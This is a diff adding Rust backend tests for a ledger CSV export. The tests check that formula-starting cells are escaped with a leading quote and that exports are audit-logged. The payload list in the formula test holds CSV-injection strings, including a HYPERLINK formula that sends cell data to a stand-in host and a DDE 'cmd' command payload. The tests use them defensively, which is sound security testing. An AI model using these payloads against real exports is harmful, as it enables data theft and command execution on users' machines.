@@ -10,7 +10,9 @@ use crate::helpers::{credit_code, TestApp};
 backend_tests!(
     the_ledger_opens_in_excel_with_chinese_text_escaped,
     the_ledger_takes_the_requests_filters,
-    only_admins_export_the_ledger
+    only_admins_export_the_ledger,
+    no_ledger_cell_starts_a_formula,
+    a_ledger_export_is_audited_with_its_filter_and_rows
 );
 
 const TITLE: &str = "电费,\"峰谷\"计价，问题";
@@ -144,4 +146,120 @@ async fn only_admins_export_the_ledger(app: TestApp) {
     assert_eq!(body["errors"][0]["extensions"]["code"], "FORBIDDEN");
     assert_eq!(export(&app, None, "").await.status(), 401);
     assert_eq!(export(&app, Some("not-a-token"), "").await.status(), 401);
+}
+
+/// OWASP's formula starts (https://owasp.org/www-community/attacks/CSV_Injection).
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];
+
+fn starts_a_formula(cell: &str) -> bool {
+    cell.trim_start_matches([' ', '\u{a0}', '\u{3000}'])
+        .starts_with(FORMULA_STARTS)
+}
+
+async fn no_ledger_cell_starts_a_formula(app: TestApp) {
+    let company = app
+        .create_company("=HYPERLINK(\"http://evil.example\",\"点我\")", &credit_code(502))
+        .await;
+    let staff = app
+        .create_user("COMPANY", "13900000003", "@王五", json!({ "companyId": company }))
+        .await;
+    let payloads = [
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点我\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "   =1+1",
+        "\u{3000}@SUM(1)",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    let mut raised = 0;
+    for payload in payloads {
+        // The same text as the title and, in a quoted multi-line cell, as the description,
+        // alone and after a line break.
+        let description = format!("{payload}\n第二行\n{payload}");
+        let title = payload.trim_start_matches(['\t', '\r']);
+        app.ok(
+            &staff.token,
+            "mutation($input: RaiseRequestInput!) { raiseRequest(input: $input) { request { id } } }",
+            json!({ "input": { "kind": "PROBLEM", "categoryId": "cat_3", "title": title, "description": description } }),
+        )
+        .await;
+        raised += 1;
+    }
+    let body = export(&app, Some(&app.admin_token), "").await.bytes().await.unwrap();
+    let records = parse(&body);
+    assert_eq!(records.len(), raised + 1);
+    let header: Vec<&str> = records[0].iter().collect();
+    let title = header.iter().position(|h| *h == "标题").unwrap();
+    let description = header.iter().position(|h| *h == "诉求内容").unwrap();
+    for record in &records {
+        for cell in record.iter() {
+            assert!(!starts_a_formula(cell), "a cell a spreadsheet would run: {cell:?}");
+        }
+    }
+    // The value stays readable: the stored text behind one leading quote.
+    let stored: Vec<(String, String)> = app
+        .ok(
+            &app.admin_token,
+            "{ requests(first: 50) { edges { node { title description } } } }",
+            json!({}),
+        )
+        .await["requests"]["edges"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .rev()
+        .map(|e| {
+            (
+                e["node"]["title"].as_str().unwrap().to_string(),
+                e["node"]["description"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect();
+    for (record, (stored_title, stored_description)) in records[1..].iter().zip(&stored) {
+        assert!(
+            starts_a_formula(stored_title),
+            "the test stores a dangerous title: {stored_title:?}"
+        );
+        assert_eq!(record[title], format!("'{stored_title}"));
+        assert_eq!(record[description], format!("'{stored_description}"));
+    }
+    assert_eq!(
+        &records[1][header.iter().position(|h| *h == "企业").unwrap()],
+        "'=HYPERLINK(\"http://evil.example\",\"点我\")"
+    );
+    // Every cell is quoted (OWASP: wrap each cell in double quotes).
+    let text = std::str::from_utf8(&body[3..]).unwrap();
+    assert!(text.starts_with("\"编号\",\"提交时间\","), "{text}");
+}
+
+async fn a_ledger_export_is_audited_with_its_filter_and_rows(app: TestApp) {
+    setup(&app).await;
+    let response = export(&app, Some(&app.admin_token), "?kind=PROBLEM&text=%E7%A7%AF%E6%B0%B4").await;
+    assert_eq!(response.status(), 200);
+    response.bytes().await.unwrap();
+    let log = app
+        .ok(
+            &app.admin_token,
+            "{ auditLog(filter: { action: \"exportLedger\" }) { totalCount edges { node { actor { id } targetType targetId after } } } }",
+            json!({}),
+        )
+        .await;
+    assert_eq!(log["auditLog"]["totalCount"], 1, "{log:#}");
+    let entry = &log["auditLog"]["edges"][0]["node"];
+    assert_eq!(entry["actor"]["id"], app.admin_id.as_str());
+    assert_eq!(entry["targetType"], "ledger");
+    assert_eq!(entry["after"]["filter"], json!({ "kind": "PROBLEM", "text": "积水" }));
+    assert_eq!(entry["after"]["rows"], 1);
+    // A refused export (bad filter, or not an admin) leaves no entry.
+    assert_eq!(export(&app, Some(&app.admin_token), "?kind=NOPE").await.status(), 400);
+    let log = app
+        .ok(
+            &app.admin_token,
+            "{ auditLog(filter: { action: \"exportLedger\" }) { totalCount } }",
+            json!({}),
+        )
+        .await;
+    assert_eq!(log["auditLog"]["totalCount"], 1);
 }
